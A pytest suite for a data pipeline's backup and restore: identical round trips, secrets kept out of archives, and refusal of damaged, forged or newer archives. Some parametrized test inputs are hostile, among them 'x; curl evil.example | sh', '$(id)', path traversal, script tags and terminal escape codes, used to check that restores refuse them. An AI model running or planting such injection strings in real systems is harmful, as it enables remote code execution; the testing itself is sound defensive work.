"""An installation in one file and out of it again: the same content, what is refused, and what a kill leaves."""

from __future__ import annotations

import base64
import hashlib
import io
import shutil
import signal
import subprocess
import sys
import tracemalloc
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, NamedTuple

import pyarrow.parquet as pq
import pytest
import zstandard

from stax_pipeline import embedded_postgres
from stax_pipeline.backup import create, restore
from stax_pipeline.backup.archive import ArchiveReader, BackupRefused, Entry, Member, written_whole
from stax_pipeline.backup.create import BackedUp, Sources, back_up
from stax_pipeline.backup.dump import begin_snapshot
from stax_pipeline.backup.restore import Restored, prove_usable, rebuild_parquet, restore_rows_and_raw, still_missing
from stax_pipeline.checks.parquet_copies import parquet_gaps
from stax_pipeline.domain.errors import CannotStart, WrongUse
from stax_pipeline.domain.extraction import Window
from stax_pipeline.installation.settings import Settings, read_settings
from stax_pipeline.lake.parquet import rebuild
from stax_pipeline.lake.store import Lake
from stax_pipeline.pipeline.isolation import no_progress
from stax_pipeline.warehouse import tables
from stax_pipeline.warehouse.engine import WarehouseFault, connect_engine
from stax_pipeline.warehouse.migrate import upgrade
from stax_pipeline.warehouse.roles import logins
from stax_pipeline_tests.conftest import Installation, passable_home
from stax_pipeline_tests.pipeline.support import COST, change, content, on, query, sync, times, two_tenants
from stax_pipeline_tests.rig.oracle import write_files
from stax_pipeline_tests.warehouse.next_schema import NEWER, add_a_migration

NOW = datetime.now(UTC)
RECENT = Window(NOW.date() - timedelta(days=3), NOW.date() + timedelta(days=1))
DAY = NOW.date() - timedelta(days=2)
EVERY_ROW = [table.name for table in tables.metadata.sorted_tables]


@contextmanager
def sources(settings: Settings) -> Iterator[Sources]:
    urls = logins(settings)
    loader, owner = connect_engine(urls.loader), connect_engine(urls.owner)
    try:
        yield Sources(loader, owner, Lake(settings.lake))
    finally:
        loader.dispose()
        owner.dispose()


def take(settings: Settings, path: Path, *, with_raw: bool = True) -> BackedUp:
    with sources(settings) as found:
        return back_up(found, path, with_raw=with_raw, progress=no_progress)


def put_back(settings: Settings, path: Path) -> Restored:
    with sources(settings) as into, path.open("rb") as file:
        reader = ArchiveReader(file, path.name)
        prove_usable(reader)
        done = restore_rows_and_raw(reader, into.owner, logins(settings), into.lake)
        rebuild_parquet(into.loader, into.lake, no_progress)
        return done


def rows(settings: Settings) -> dict[str, list[str]]:
    """Every row of every table with all of its columns, ids and times included."""
    engine = connect_engine(logins(settings).loader)
    with engine.connect() as connection:
        found = {
            name: sorted(map(repr, connection.exec_driver_sql(f"select x::text from stax.{name} x").scalars()))
            for name in EVERY_ROW
        }
    engine.dispose()
    return found


def files(settings: Settings, pattern: str) -> dict[str, bytes]:
    lake = Path(settings.lake)
    return {file.relative_to(lake).as_posix(): file.read_bytes() for file in lake.glob(pattern) if file.is_file()}


class Zeros(io.RawIOBase):
    """So many bytes that are nowhere whole."""

    def __init__(self, size: int) -> None:
        self.left = size

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        length = min(len(buffer), self.left)
        buffer[:length] = bytes(length)
        self.left -= length
        return length


def test_an_object_larger_than_memory_goes_there_and_back(tmp_path: Path) -> None:
    size, name = 120_000_000, "raw/cost_report/a.jsonl.zst"
    digest = hashlib.file_digest(io.BufferedReader(Zeros(size)), "sha256").hexdigest()  # type: ignore[arg-type]
    lake = Lake(str(tmp_path / "lake"))
    tracemalloc.start()
    try:
        restore._put_raw(lake, Member(name, digest, io.BufferedReader(Zeros(size))))
        restore._put_raw(lake, Member(name, digest, io.BufferedReader(Zeros(size))))  # killed half-way, run again
        with written_whole(tmp_path / "one") as writer:
            writer.head({})
            create._write_raw(lake, writer, Entry(name, digest, 0), True, done := BackedUp())
        assert tracemalloc.get_traced_memory()[1] < 50_000_000
    finally:
        tracemalloc.stop()
    assert (done.raw_objects, done.damaged) == (1, [])
    assert (tmp_path / "lake" / name).stat().st_size == size


@pytest.fixture(scope="module")
def made(stax_home: Path) -> Iterator[Installation]:
    """Two tenants, read twice, a day restated in between; a note in the lake beside an object. Tests only read."""
    with two_tenants(stax_home, now=NOW) as installation:
        assert sync(installation, RECENT).failures == {}
        change(installation, COST, on(DAY, times("1.1")))
        assert sync(installation, RECENT).failures == {}
        assert query(installation, "select count(*) from stax.restatements")[0][0] > 0
        write_files(installation, RECENT)
        [one, *_] = sorted(Path(installation.settings.lake).glob("raw/cost_report/*/*/*.zst"))
        one.with_name(one.name.replace(".jsonl.zst", ".refused.json")).write_text('{"refused": "a test"}')
        yield installation


class Taken(NamedTuple):
    """A backup, and what it is a backup of."""

    path: Path
    rows: dict[str, list[str]]
    raw: dict[str, bytes]


@pytest.fixture(scope="module")
def taken(made: Installation, tmp_path_factory: pytest.TempPathFactory) -> Taken:
    path = tmp_path_factory.mktemp("kept") / "stax.tar.zst"
    assert take(made.settings, path).damaged == []
    return Taken(path, rows(made.settings), files(made.settings, "raw/**/*"))


@pytest.fixture
def archive(taken: Taken) -> Path:
    return taken.path


@contextmanager
def empty(*, own_server: bool = False) -> Iterator[Settings]:
    """A migrated database without tenants and an empty lake: embedded, or reached through STAX_DATABASE_URL."""
    with passable_home() as home:
        settings = read_settings({"STAX_HOME": str(home)})
        with embedded_postgres.running(settings.postgres_home) as url:
            if own_server:
                settings = replace(settings, home=home.with_name("other"), database_url=url)
            upgrade(settings)
            yield settings


@pytest.fixture(scope="module", params=[False, True], ids=["embedded", "own server"])
def restored(taken: Taken, request: pytest.FixtureRequest) -> Iterator[Settings]:
    with empty(own_server=request.param) as settings:
        put_back(settings, taken.path)
        yield settings


class TestRestored:
    def test_every_row_is_the_same_to_its_last_column(self, taken: Taken, restored: Settings) -> None:
        assert rows(restored) == taken.rows
        assert all(taken.rows[name] for name in ("tenants", "admin_keys", "extractions", "restatements", "spend"))

    def test_every_raw_object_is_the_same(self, taken: Taken, restored: Settings) -> None:
        assert files(restored, "raw/**/*") == taken.raw
        assert any(name.endswith(".refused.json") for name in taken.raw)

    def test_parquet_is_rebuilt(self, restored: Settings) -> None:
        found = {
            table.name: sum(pq.read_metadata(file).num_rows for file in Path(restored.lake).glob(f"{table.name}/*/*/*"))
            for table in tables.DAILY
        }
        assert found == {table.name: len(rows(restored)[table.name]) for table in tables.DAILY}

    def test_the_policies_bind_everybody_again(self, restored: Settings) -> None:
        engine = connect_engine(logins(restored).owner)
        with engine.connect() as connection:
            unforced = "select relname from pg_class where relnamespace = 'stax'::regnamespace and relkind = 'r' " \
                "and not (relrowsecurity and relforcerowsecurity) and relname <> 'alembic_version'"  # fmt: skip
            assert connection.exec_driver_sql(unforced).all() == []
            assert connection.exec_driver_sql("select count(*) from stax.tenants").scalar_one() == 0
        engine.dispose()

    def test_a_second_restore_is_refused_and_changes_nothing(self, restored: Settings, archive: Path) -> None:
        before = rows(restored)
        with pytest.raises(WrongUse, match="There are tenants here already"):
            put_back(restored, archive)
        assert rows(restored) == before

    def test_it_syncs_on_with_the_master_key_and_says_what_is_missing_without(
        self, made: Installation, restored: Settings, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("STAX_HOME", str(restored.home))
        monkeypatch.setenv("STAX_DATABASE_URL", restored.database_url)
        there = Installation(restored.home, made.simulator, made.clock)
        with pytest.raises(CannotStart, match="There is no master key.*restore the one"):
            sync(there, RECENT)
        shutil.copy(made.home / "master.key", restored.home / "master.key")
        before = content(there)
        assert sync(there, RECENT).failures == {}
        assert content(there) == before


def test_no_table_needs_what_a_backup_does_not_carry(made: Installation) -> None:
    """Sequences would begin anew after a restore; the archive holds rows alone."""
    kinds = "select relname from pg_class where relnamespace = 'stax'::regnamespace and relkind not in ('r', 'v', 'i')"
    assert query(made, kinds) == []


def test_an_operators_own_table_stays_his(made: Installation, tmp_path: Path) -> None:
    admin = connect_engine(logins(made.settings).admin)
    with admin.begin() as connection:
        connection.exec_driver_sql("create table stax.of_the_operator as select 1 as one")
    try:
        take(made.settings, tmp_path / "one", with_raw=False)
    finally:
        with admin.begin() as connection:
            connection.exec_driver_sql("drop table stax.of_the_operator")
        admin.dispose()
    with (tmp_path / "one").open("rb") as file:
        names = {member.name for member in ArchiveReader(file, "one").members()}
    assert names == {f"postgres/{name}.copy" for name in EVERY_ROW}


def test_who_may_not_read_every_row_makes_no_backup(made: Installation) -> None:
    with sources(made.settings) as found, found.owner.connect() as bound_by_policies_and_named_in_none:
        refused = pytest.raises(WarehouseFault, match="may not read every row of .*spend")
        with refused:
            begin_snapshot(bound_by_policies_and_named_in_none)


class TestSecrets:
    def test_neither_master_key_nor_admin_key_is_inside(self, made: Installation, archive: Path) -> None:
        inside = unpacked(archive)
        assert b"admin_keys.copy" in inside
        assert b"cost_report" in inside
        master = (made.home / "master.key").read_text().strip()
        secrets = [base64.b64decode(master), master.encode()]
        secrets += [key.encode() for key in made.simulator.keys.values()]
        secrets += [
            key.encode()[at : at + 12] for key in made.simulator.keys.values() for at in range(16, len(key) - 12)
        ]
        for secret in secrets:
            for form in forms(secret):
                assert form not in inside

    def test_the_search_finds_what_is_there(self, archive: Path) -> None:
        inside = unpacked(archive) + base64.b64encode(b"xy" + b"canary in base64")
        assert any(form in inside for form in forms(b"canary in base64"))
        assert any(form in inside for form in forms(b"refused"))

    def test_it_is_for_its_owner_alone(self, archive: Path) -> None:
        assert archive.stat().st_mode & 0o777 == 0o600


def unpacked(archive: Path) -> bytes:
    """All that is in it: the file as it is, every member, and every raw object's own content."""
    found = [archive.read_bytes()]
    with archive.open("rb") as file, zstandard.ZstdDecompressor().stream_reader(file) as plain:
        found.append(plain.read())
    with archive.open("rb") as file:
        for member in ArchiveReader(file, "x").members():
            data = member.content.read()
            if member.name.endswith(".zst"):
                data = zstandard.ZstdDecompressor().stream_reader(data, read_across_frames=True).read()
            found.append(data)
    return b"\n".join(found)


def forms(secret: bytes) -> list[bytes]:
    """In clear, in hex, and in base64 at each of the three places where it may begin in a longer text."""
    coded = [base64.b64encode(b"\0" * shift + secret)[4 if shift else 0 : -4] for shift in range(3)]
    return [secret, secret.hex().encode(), secret.hex().upper().encode(), *coded]


def test_a_sync_meanwhile_does_not_show(made: Installation, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A whole sync, committed after the first table was read: the snapshot does not have it."""
    before, real, runs = rows(made.settings), create.dump, []

    def dump(*given: Any) -> int:
        if not runs:
            runs.append(sync(made, RECENT))
        return real(*given)

    monkeypatch.setattr(create, "dump", dump)
    take(made.settings, tmp_path / "busy")
    with (tmp_path / "busy").open("rb") as file:
        reader = ArchiveReader(file, "busy")
        reader.prove()
    assert {f"postgres/{name}.copy": len(found) for name, found in before.items()} == reader.rows
    assert len(rows(made.settings)["extractions"]) > len(before["extractions"])


def forge(source: Path, into: Path, name: str, old: bytes, new: bytes) -> Path:
    """The archive without its raw objects, one member changed, every hash right again."""
    with source.open("rb") as file, written_whole(into) as writer:
        reader = ArchiveReader(file, source.name)
        reader.prove()
        writer.head(reader.words)
        for member in reader.members():
            data = member.content.read()
            if member.name == name:
                assert old in data
                data = data.replace(old, new)
            if member.name.startswith("postgres/"):
                writer.add(member.name, io.BytesIO(data), reader.rows[member.name])
    return into


class TestRefused:
    @pytest.fixture(scope="class")
    def place(self) -> Iterator[Settings]:
        with empty() as settings:
            yield settings

    @pytest.fixture(autouse=True)
    def unchanged(self, place: Settings) -> Iterator[None]:
        """Whatever a test tries, it leaves no row and no raw object."""
        yield
        assert [name for name, found in rows(place).items() if found] == []
        assert files(place, "raw/**/*") == {}

    @pytest.mark.parametrize(
        "damage",
        [lambda data: data[: len(data) // 2], lambda data: data[:-1], lambda data: b"", lambda data: data + b"x",
         lambda data: data[:9999] + bytes([data[9999] ^ 8]) + data[10_000:]],
        ids=["cut in half", "a byte short", "empty", "a byte long", "a flipped bit"],
    )  # fmt: skip
    def test_a_damaged_archive(
        self, place: Settings, archive: Path, tmp_path: Path, damage: Callable[[bytes], bytes]
    ) -> None:
        (tmp_path / "bad").write_bytes(damage(archive.read_bytes()))
        with pytest.raises(BackupRefused, match="bad is not a usable backup"):
            put_back(place, tmp_path / "bad")

    def test_one_of_a_newer_version(self, place: Settings, made: Installation, tmp_path: Path) -> None:
        with pytest.MonkeyPatch.context() as newer:
            newer.setattr(create, "revision_of", lambda _: "9999")
            take(made.settings, tmp_path / "new")
        with pytest.raises(BackupRefused, match="with schema 9999, which is newer than"):
            put_back(place, tmp_path / "new")

    def test_one_whose_tables_are_not_those_of_its_schema(
        self, place: Settings, made: Installation, tmp_path: Path
    ) -> None:
        with pytest.MonkeyPatch.context() as wrong:
            wrong.setattr(create, "begin_snapshot", lambda c: begin_snapshot(c)[:-1])
            take(made.settings, tmp_path / "wrong")
        with pytest.raises(BackupRefused, match="tables are not those of its schema"):
            put_back(place, tmp_path / "wrong")

    def test_one_that_the_database_refuses_in_the_middle(
        self, place: Settings, made: Installation, tmp_path: Path
    ) -> None:
        real = begin_snapshot
        with pytest.MonkeyPatch.context() as wrong:
            wrong.setattr(create, "begin_snapshot", lambda c: real(c)[::-1])  # children before their parents
            take(made.settings, tmp_path / "wrong", with_raw=False)
        with pytest.raises(WarehouseFault, match="restoring: the database refused it"):
            put_back(place, tmp_path / "wrong")

    @pytest.mark.parametrize("slug", ["../../evil", "Acme", "acme\\n", "<script>"])
    def test_one_with_a_name_that_no_tenant_can_have(
        self, place: Settings, taken: Taken, tmp_path: Path, slug: str
    ) -> None:
        forged = forge(taken.path, tmp_path / "forged", "postgres/tenants.copy", b"\tacme\t", f"\t{slug}\t".encode())
        with pytest.raises(BackupRefused, match="was not made by stax: .* is no tenant name"):
            put_back(place, forged)

    @pytest.mark.parametrize(
        "changes",
        [{"taken_at": "\x1b[2J"}, {"taken_at": None}, {"product": "1\u202e"}, {"revision": "\x9b1m"},
         {"master_key_ids": ["\x1b]0;x\x07"]}, {"master_key_ids": 1}, {"tables": [{"name": "spend"}]}, {"tables": {}}],
    )  # fmt: skip
    def test_one_whose_head_could_draw_on_the_screen_or_says_too_little(
        self, place: Settings, taken: Taken, tmp_path: Path, changes: dict[str, Any]
    ) -> None:
        with taken.path.open("rb") as file, written_whole(tmp_path / "odd") as writer:
            reader = ArchiveReader(file, "odd")
            reader.prove()
            writer.head(reader.words | changes)
        with pytest.raises(BackupRefused) as refused:
            put_back(place, tmp_path / "odd")
        assert str(refused.value).isprintable()

    @pytest.mark.parametrize("role", ["x; curl evil.example | sh", "$(id)", "stax_owner", "\x1b[2J"])
    def test_one_with_a_login_that_was_never_granted(
        self, place: Settings, taken: Taken, tmp_path: Path, role: str
    ) -> None:
        """The way back names it in a command to type."""
        with taken.path.open("rb") as file, written_whole(tmp_path / "forged") as writer:
            reader = ArchiveReader(file, "forged")
            reader.prove()
            writer.head(reader.words)
            [columns] = [table["columns"] for table in reader.words["tables"] if table["name"] == "tenant_grants"]
            for member in reader.members():
                data, count = member.content.read(), reader.rows.get(member.name, 0)
                if member.name == "postgres/tenants.copy":
                    tenant = data.split(b"\t")[0].decode()
                if member.name == "postgres/tenant_grants.copy":
                    row = {"role_name": role, "tenant_id": tenant, "granted_at": "2026-11-01 00:00:00+00"}
                    data, count = "\t".join(row[name] for name in columns).encode() + b"\n", 1
                if member.name.startswith("postgres/"):
                    writer.add(member.name, io.BytesIO(data), count)
        with pytest.raises(BackupRefused, match="was not made by stax: ") as refused:
            put_back(place, tmp_path / "forged")
        assert str(refused.value).isprintable()

    def test_an_object_where_the_lake_has_a_folder(self, place: Settings, taken: Taken) -> None:
        (Path(place.lake) / min(taken.raw)).mkdir(parents=True)
        with pytest.raises(BackupRefused, match="The lake holds another raw/"):
            put_back(place, taken.path)
        shutil.rmtree(place.lake)

    def test_a_lake_that_holds_other_objects(self, place: Settings, taken: Taken) -> None:
        other = Path(place.lake) / min(taken.raw)
        other.parent.mkdir(parents=True)
        other.write_bytes(b"another")
        with pytest.raises(BackupRefused, match="The lake holds another raw/"):
            put_back(place, taken.path)
        assert other.read_bytes() == b"another"
        shutil.rmtree(place.lake)


class TestRawObjects:
    def test_left_out_they_are_listed_and_looked_for(self, made: Installation, tmp_path: Path) -> None:
        assert take(made.settings, tmp_path / "lean", with_raw=False).raw_objects == 0
        named = {row[0] for row in query(made, "select raw_uri from stax.extractions where raw_uri is not null")}
        with empty() as settings:
            done = put_back(settings, tmp_path / "lean")
            assert {entry.name for entry in done.absent} == named
            assert {entry.name for entry in still_missing(Lake(settings.lake), done.absent)} == named
            shutil.copytree(Path(made.settings.lake) / "raw", Path(settings.lake) / "raw")
            assert still_missing(Lake(settings.lake), done.absent) == []

    def test_a_missing_and_a_damaged_one_are_named_and_the_rest_is_kept(
        self, made: Installation, tmp_path: Path
    ) -> None:
        lake = Path(made.settings.lake)
        named = sorted(row[0] for row in query(made, "select raw_uri from stax.extractions where raw_uri is not null"))
        kept = {name: (lake / name).read_bytes() for name in named[:3]}
        try:
            (lake / named[0]).unlink()
            (lake / named[1]).write_bytes(kept[named[1]][:-1])
            (lake / named[2]).unlink()
            (lake / named[2]).mkdir()
            done = take(made.settings, tmp_path / "lacking")
        finally:
            (lake / named[2]).rmdir()
            for name, data in kept.items():
                (lake / name).write_bytes(data)
        assert {entry.name: entry.absent for entry in done.damaged} == {
            named[0]: "it was missing from the lake", named[1]: "it did not have its recorded hash",
            named[2]: "it could not be read",
        }  # fmt: skip
        with (tmp_path / "lacking").open("rb") as file:
            assert {m.name for m in ArchiveReader(file, "x").members()} >= {named[1], *named[3:]}


KILLED = """
import os, signal, sys
from pathlib import Path
from stax_pipeline.installation.settings import read_settings
from stax_pipeline_tests.backup import test_backup as here
from stax_pipeline.backup import {module}
def killed(*_, **__): os.kill(os.getpid(), signal.SIGKILL)
{module}.{stage} = killed
here.{work}(read_settings(), Path(sys.argv[1]))
"""


def in_a_process(code: str, settings: Settings, *arguments: str) -> subprocess.CompletedProcess[str]:
    environment = {"STAX_HOME": str(settings.home), "PYTHONPATH": ":".join(sys.path), "PATH": "/usr/bin:/bin"}
    command = [sys.executable, "-c", code, *arguments]
    return subprocess.run(command, env=environment, capture_output=True, text=True, check=False)


def kill(settings: Settings, path: Path, module: str, stage: str, work: str) -> None:
    """Do the work in a process of its own that dies at the stage."""
    done = in_a_process(KILLED.format(module=module, stage=stage, work=work), settings, str(path))
    assert done.returncode == -signal.SIGKILL, done.stderr


@pytest.mark.parametrize("stage", ["dump", "_write_raw"])
def test_a_killed_backup_leaves_nothing_under_its_name(made: Installation, tmp_path: Path, stage: str) -> None:
    path = tmp_path / "one"
    kill(made.settings, path, "create", stage, "take")
    assert not path.exists()
    assert take(made.settings, path).tenants == 2


FULL = """
import resource, sys
from pathlib import Path
from stax_pipeline.domain.errors import CannotStart
from stax_pipeline.installation.settings import read_settings
from stax_pipeline_tests.backup import test_backup as here
resource.setrlimit(resource.RLIMIT_FSIZE, (int(sys.argv[2]),) * 2)
try:
    here.take(read_settings(), Path(sys.argv[1]))
except CannotStart as fault:
    print(fault)
"""


@pytest.mark.parametrize("room", [30_000, 100], ids=["for the first tables", "for nothing"])
def test_a_full_disk_is_said_and_leaves_nothing(made: Installation, tmp_path: Path, room: int) -> None:
    done = in_a_process(FULL, made.settings, str(tmp_path / "one"), str(room))
    assert done.stdout == f"The backup {tmp_path / 'one'} cannot be written: File too large.\n", done.stderr
    assert list(tmp_path.iterdir()) == []


def test_a_killed_restore_leaves_an_empty_installation_and_can_be_run_again(taken: Taken) -> None:
    with empty() as settings:
        kill(settings, taken.path, "restore", "close_after_loading", "put_back")
        assert [name for name, found in rows(settings).items() if found] == []
        put_back(settings, taken.path)
        assert rows(settings) == taken.rows


def test_a_restore_killed_before_its_parquet_is_told_and_finished_by_a_replay(taken: Taken) -> None:
    with empty() as settings:
        kill(settings, taken.path, "restore", "rebuild", "put_back")
        assert rows(settings) == taken.rows
        with pytest.raises(WrongUse, match="stopped here while it wrote Parquet.*`stax replay` writes the files"):
            put_back(settings, taken.path)
        lake, loader = Lake(settings.lake), connect_engine(logins(settings).loader)
        with loader.connect() as connection:
            lacking = {gap.table for gap in parquet_gaps(connection, lake, RECENT)}
            assert lacking == {table.name for table in tables.DAILY}
            for table in tables.DAILY:  # as the last thing that `stax replay` does
                rebuild(loader, lake, table, RECENT)
            assert list(parquet_gaps(connection, lake, RECENT)) == []
        loader.dispose()


OLD_ROWS = """
    insert into stax.tenants (tenant_id, slug, name, organization_id, status, created_at)
    values (gen_random_uuid(), 'acme', 'Acme', 'org-1', 'connected', now());
    insert into stax.list_prices (model, effective_from, cost_type, token_type, context_window, speed, recorded_at,
                                  pricing_unit, usd_per_unit, us_multiplier, source, imported)
    values ('m', '2026-01-01', 'tokens', 'output_tokens', 'all', 'standard', now(), '1M tokens', 15, 1.1, 'a test',
            false)
"""


def test_an_archive_of_an_older_schema_is_migrated_after_it_was_loaded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What the next migration does to rows is done to those of the archive too."""
    with empty() as old:
        with sources(old) as found, found.owner.begin() as connection:
            for table in ("tenants", "list_prices"):
                connection.exec_driver_sql(f"alter table stax.{table} no force row level security")
            connection.exec_driver_sql(OLD_ROWS)
        assert take(old, tmp_path / "old").rows == 2
    add_a_migration(tmp_path / "migrations", monkeypatch)
    with empty() as new:
        with sources(new) as found:
            assert found.revision() == NEWER
        assert put_back(new, tmp_path / "old").rows == 2
        [price] = rows(new)["list_prices"]
        assert price.endswith(",t)'")
        assert len(rows(new)["tenants"]) == 1
        with sources(new) as found:
            assert found.revision() == NEWER
